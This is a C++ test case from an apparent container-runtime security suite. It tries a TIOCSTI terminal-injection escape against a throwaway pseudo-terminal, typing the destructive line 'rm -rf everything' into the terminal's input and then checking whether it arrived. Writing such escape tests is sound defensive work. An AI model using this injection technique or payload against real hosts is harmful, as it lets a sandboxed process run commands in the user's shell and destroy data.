// SPDX-License-Identifier: MIT
// Types a command into the terminal that the container was started from:
// TIOCSTI, ioctl_tty(2). The host's shell reads it when the container is over.
// It has worked if it is then in the terminal's input.
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include <array>
#include <cstdlib>

#include "tests/attacks/rig/attack.hpp"

namespace attacks::terminal_input {

constexpr std::string_view kLine = "rm -rf everything\n";

int type(int fd, char key) {
  return ioctl(fd, TIOCSTI, &key);
}

int terminal = -1;

// A terminal of the throwaway host, not the one that this was started from.
Words prepare(Host& host) {
  check(mkdir("/dev/pts", 0755), "mkdir", "/dev/pts");
  const int result =
      mount("devpts", "/dev/pts", "devpts", /*flags=*/0, "ptmxmode=666");
  check(result, "mount", "/dev/pts");
  constexpr int kFlags = O_RDWR | O_NOCTTY | O_CLOEXEC;
  const int master = check(open("/dev/pts/ptmx", kFlags), "open", "ptmx");
  check(unlockpt(master), "unlockpt");
  std::array<char, 64> path{};
  if (ptsname_r(master, path.data(), path.size()) != 0) {
    common::fail(errno, "ptsname_r");
  }
  terminal = check(open(path.data(), kFlags | O_NONBLOCK), "open", path.data());
  if (type(terminal, '\n') == -1 && errno == EIO) {
    throw Missing{"a kernel that lets root use TIOCSTI: legacy_tiocsti is 0"};
  }
  char newline = 0;
  check(read(terminal, &newline, 1), "read", "the terminal");
  host.launch.before_exec = [fd = terminal] {
    setsid();
    ioctl(fd, TIOCSCTTY, 0);
    dup2(fd, STDIN_FILENO);
  };
  return {};
}

void attempt(const Words&) {
  int result = 0;
  for (const char key : kLine) {
    if (result == 0) result = type(STDIN_FILENO, key);
  }
  try_to(result, "ioctl TIOCSTI", "for each key");
}

std::string effect(Host&) {
  std::array<char, 64> text{};
  const ssize_t length = read(terminal, text.data(), text.size());
  return if_so(
      length > 0 && kLine == std::string_view(text.data()),
      "a line is typed that nobody typed");
}

const Entry kEntry({
    .name = "terminal-input",
    .title = "type into the host's terminal, TIOCSTI",
    .open = "the terminal is the caller's own, and whoever has it for a "
            "controlling terminal, or has CAP_SYS_ADMIN, may put characters "
            "into its input: ioctl_tty(2). Real runtimes give a container a "
            "terminal of its own",
    .look_afterwards = true,
    .prepare = prepare,
    .attempt = attempt,
    .effect = effect,
});

}  // namespace attacks::terminal_input
